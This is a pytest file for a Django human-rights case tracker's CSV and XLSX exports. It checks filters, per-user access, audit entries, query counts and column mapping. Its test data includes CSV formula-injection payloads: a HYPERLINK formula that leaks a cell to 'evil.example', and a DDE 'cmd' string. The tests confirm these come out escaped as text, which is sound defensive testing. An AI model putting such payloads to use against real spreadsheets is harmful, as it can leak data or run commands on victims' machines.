"""The case list as CSV, as filtered on screen: the same filters (the same query
string), every page, the user's own cases only, in the import's columns, and no
cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.http import parse_header_parameters

from habeas.audit.models import AuditEntry
from habeas.cases import selectors as case_selectors
from habeas.cases import services as cases
from habeas.cases.models import Status
from habeas.exports import selectors, table
from habeas.imports.columns import FIELDS, suggest_mapping
from habeas.lib.partialdate import PartialDate
from habeas.lib.text import formula_escape, formula_unescape

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _csv(client, query: str = "") -> list[dict[str, str]]:
    response = client.get(reverse("case_list_csv") + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition, params = parse_header_parameters(response["Content-Disposition"])
    assert disposition == "attachment" and params["filename"].endswith(".csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # so that Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(text[1:])))


def _open(by, reference: str, name: str, **fields):
    person = cases.person_create(name=name, by=by)
    return cases.case_create(reference=reference, person=person, by=by, **fields)


def test_the_csv_holds_each_case_in_the_imports_columns(login, alice, alices_case):
    cases.case_update(
        case=alices_case,
        by=alice,
        tags=["torture", "airport"],
        disappeared_place="Ashgabat airport",
        summary="Taken at passport control.\nNo news since.",
    )
    (row,) = _csv(login(alice))
    assert list(row) == table.KEYS
    expected = {
        "reference": "TM-2021-003",
        "external_id": str(alices_case.public_id),
        "name": "Рустам Исаков; Rustam Isakow",  # the primary spelling first
        "sex": "",
        "birth_date": "",
        "nationality": "",
        "occupation": "",
        "affiliation": "",
        "description": "",
        "country": "TM",
        "taken_in_country": "",
        "disappeared_on": "2021-10-20T12:43",
        "disappeared_place": "Ashgabat airport",
        "last_contact_on": "2021-10-20T12:43",
        "last_contact_place": "",
        "last_contact_channel": "",
        "risk_torture": "",
        "risk_health": "",
        "risk_family_reprisals": "",
        "summary": "Taken at passport control.\nNo news since.",
        "status": "Reported missing",  # the label a reader reads, not the code
        "status_date": "2021-10-20",
        "priority": "3",
        "tags": "airport; torture",
    }
    assert row == {key: expected[key] for key in table.KEYS}


def test_the_confidential_last_message_is_not_in_the_table(login, alice, alices_case):
    """The import has no column for it; the table has nothing the import cannot read."""
    response = login(alice).get(reverse("case_list_csv"))
    assert "hiding" not in b"".join(response.streaming_content).decode()


def test_the_csv_has_every_page_and_the_same_filters_as_the_list(login, alice, alices_case):
    for i in range(55):  # more than one page of the list (50)
        _open(alice, f"KZ-{i:03}", f"Person {i}", country="KZ", priority=2 if i % 2 else 3)
    client = login(alice)
    everything = _csv(client)
    assert len(everything) == 56
    # In the list's order: priority, then reference.
    assert [r["reference"] for r in everything][:3] == ["KZ-001", "KZ-003", "KZ-005"]
    query = "?country=kz&priority=2"
    listed = client.get(reverse("case_list") + query).content.decode()
    filtered = _csv(client, query)
    assert len(filtered) == 27
    assert {r["country"] for r in filtered} == {"KZ"} and {r["priority"] for r in filtered} == {"2"}
    assert "27 cases" in listed  # what the screen says is what the file holds
    # The pager's position does not cut the file: every page, wherever the list was.
    assert _csv(client, query + "&after=2:KZ-041") == filtered


def test_the_list_offers_the_csv_of_what_it_shows(login, alice, alices_case):
    page = login(alice).get(reverse("case_list") + "?status=reported_missing&country=TM")
    body = page.content.decode()
    for name in ("case_list_csv", "case_list_xlsx"):
        link = reverse(name) + "?status=reported_missing&amp;country=TM"
        assert f'href="{link}"' in body
    assert "Take the XLSX" in body  # which to pick, on the page


def test_the_xlsx_holds_the_same_table_for_excel_in_any_locale(login, alice, alices_case):
    """Russian Excel splits a CSV on ";": the XLSX opens in columns everywhere."""
    _open(alice, "TM-9", EVIL, country="TM", disappeared_place="+7 912 000")
    client = login(alice)
    response = client.get(reverse("case_list_xlsx") + "?country=TM")
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    disposition, params = parse_header_parameters(response["Content-Disposition"])
    assert disposition == "attachment" and params["filename"].endswith(".xlsx")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    got = [[c.value or "" for c in line] for line in sheet.iter_rows()]
    rows = [dict(zip(got[0], line, strict=True)) for line in got[1:]]
    assert rows == _csv(client, "?country=TM")  # the very table of the CSV
    evil = next(r for r in rows if r["reference"] == "TM-9")
    assert evil["name"] == formula_escape(EVIL)  # text, never a formula
    assert all(c.data_type == "s" for line in sheet.iter_rows() for c in line if c.value)
    assert evil["status"] == "Reported missing"
    details = [e.detail for e in AuditEntry.objects.filter(action="case_list.exported")]
    assert {"via": "download-xlsx", "country": "TM"} in details


def test_a_filter_that_does_not_apply_exports_nothing_and_says_why(login, alice, alices_case):
    client = login(alice)
    response = client.get(reverse("case_list_csv") + "?priority=9&silent_days=x")
    assert response.status_code == 302
    assert response["Location"] == reverse("case_list") + "?priority=9&silent_days=x"
    listed = client.get(response["Location"]).content.decode()
    assert "Select a valid choice" in listed  # the list says what is wrong, input kept
    assert reverse("case_list_csv") not in listed  # and offers no file for it
    assert not AuditEntry.objects.filter(action="case_list.exported").exists()


def test_each_sees_only_their_own_cases(login, alice, charlie, alices_case):
    _open(charlie, "CH-1", "Someone else", country="TM")
    assert [r["reference"] for r in _csv(login(charlie))] == ["CH-1"]


def test_an_administrator_off_every_team_gets_an_empty_table(login, ada, alices_case):
    assert _csv(login(ada)) == []


def test_the_export_is_audited_with_its_filters(login, alice, alices_case):
    _csv(login(alice), "?country=TM&open_only=on")
    entry = AuditEntry.objects.get(action="case_list.exported")
    assert entry.actor_username == "alice"
    assert entry.detail == {"via": "download", "country": "TM", "open_only": True}


def test_anonymous_visitors_are_sent_to_log_in(client, alices_case):
    response = client.get(reverse("case_list_csv"))
    assert response.status_code == 302
    assert "/login" in response["Location"]


# --- Formulas ----------------------------------------------------------------------


def test_a_formula_in_a_name_or_a_place_reaches_the_file_as_text(login, alice):
    case = _open(
        alice,
        "TM-EVIL",
        EVIL,
        country="TM",
        disappeared_place="@SUM(1+1)*cmd|' /C calc'!A0",
        summary="-2+3",
    )
    cases.person_name_add(person=case.people.get(), text="+SUM(1,1) Isakov", by=alice)
    (row,) = _csv(login(alice))
    assert row["name"] == "'" + EVIL + "; +SUM(1,1) Isakov"
    assert row["disappeared_place"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["summary"] == "'-2+3"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Read back, each cell is what was typed.
    assert formula_unescape(row["disappeared_place"]) == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert formula_unescape(row["name"]).split("; ")[0] == EVIL


@pytest.mark.parametrize(
    "text",
    [
        EVIL,
        "'" + EVIL,  # already quoted by someone: quoted again, so that reading it back is exact
        "''-1",
        "\t=1",
        "\r=1",
        " =1",
        "\u200b=1",
        "＝1",
        "'plain",
        "plain",
        "",
        "-",
        "Rustam Isakov",
    ],
)
def test_reading_a_cell_back_gives_exactly_what_was_written(text):
    assert formula_unescape(formula_escape(text)) == text


@pytest.mark.parametrize("text", ["Rustam Isakov", "'plain", "2021-10", "", "TM"])
def test_a_cell_that_is_no_formula_is_left_alone_both_ways(text):
    assert formula_escape(text) == text
    assert formula_unescape(text) == text


# --- Queries -----------------------------------------------------------------------


def _queries(client) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(reverse("case_list_csv"))
        rows = b"".join(response.streaming_content).count(b"\n")
    assert response.status_code == 200 and rows > 1
    return len(captured)


def test_the_csv_takes_as_many_queries_however_many_cases_it_holds(login, alice, alices_case):
    client = login(alice)
    _open(alice, "Q-0", "Исаков 0", country="TM", tags=["a", "b"])
    few = _queries(client)
    for i in range(1, 15):
        case = _open(alice, f"Q-{i}", f"Исаков {i}", country="TM", tags=["a", f"t{i}"])
        cases.person_name_add(person=case.people.get(), text=f"Isakow {i}", by=alice)
        cases.case_update(case=case, by=alice, disappeared_on=PartialDate.parse("2020"))
    assert _queries(client) == few


# Per chunk of cases, their people, the people's names and the cases' tags.
PER_CHUNK = 3


def test_cases_are_read_in_chunks_of_a_fixed_size(login, alice, alices_case, monkeypatch):
    """Past a chunk, a fixed few queries more per chunk: memory stays that of one."""
    client = login(alice)
    for i in range(4):
        _open(alice, f"C-{i}", f"Person {i}", country="TM")
    monkeypatch.setattr(selectors, "CSV_CHUNK", 100)
    one_chunk = _queries(client)
    monkeypatch.setattr(selectors, "CSV_CHUNK", 2)  # 5 cases: three chunks
    assert _queries(client) == one_chunk + 2 * PER_CHUNK


def test_a_case_about_several_people_lists_the_first_one(login, alice, alices_case):
    cases.case_person_add(case=alices_case, name="Second Person", by=alice)
    (row,) = _csv(login(alice))
    assert row["name"].startswith("Рустам Исаков")


def test_the_selector_lists_what_the_page_lists(alice, alices_case):
    filters = case_selectors.CaseFilters(country="TM")
    today = timezone.localdate()
    exported = [
        c.reference for c in selectors.case_list_export(user=alice, filters=filters, today=today)
    ]
    page = case_selectors.case_list_page(user=alice, filters=filters, today=today)
    assert exported == [c.reference for c in page.cases]


# --- The import's columns -----------------------------------------------------------


def test_a_released_persons_row_carries_the_day_it_became_known(login, alice, alices_case):
    """The import refuses a status other than "reported missing" without its date:
    the row of a released person must bring that date back with it."""
    cases.status_assert(
        case=alices_case,
        status=Status.RELEASED,
        asserted_on=date(2022, 3, 4),
        basis="Family saw him at home",
        by=alice,
    )
    (row,) = _csv(login(alice))
    assert (row["status"], row["status_date"]) == ("Released", "2022-03-04")


def test_every_import_column_is_written_or_left_out_for_a_reason():
    """A column the import gains is either exported or named in NOT_WRITTEN."""
    keys = [f.key for f in FIELDS]
    assert sorted(set(keys) - set(table.KEYS)) == sorted(table.NOT_WRITTEN)
    assert not set(table.NOT_WRITTEN) & set(table.CELLS)


def test_the_import_maps_every_header_of_the_file_to_its_own_field():
    mapping = suggest_mapping(table.KEYS)
    assert mapping == dict(enumerate(table.KEYS))
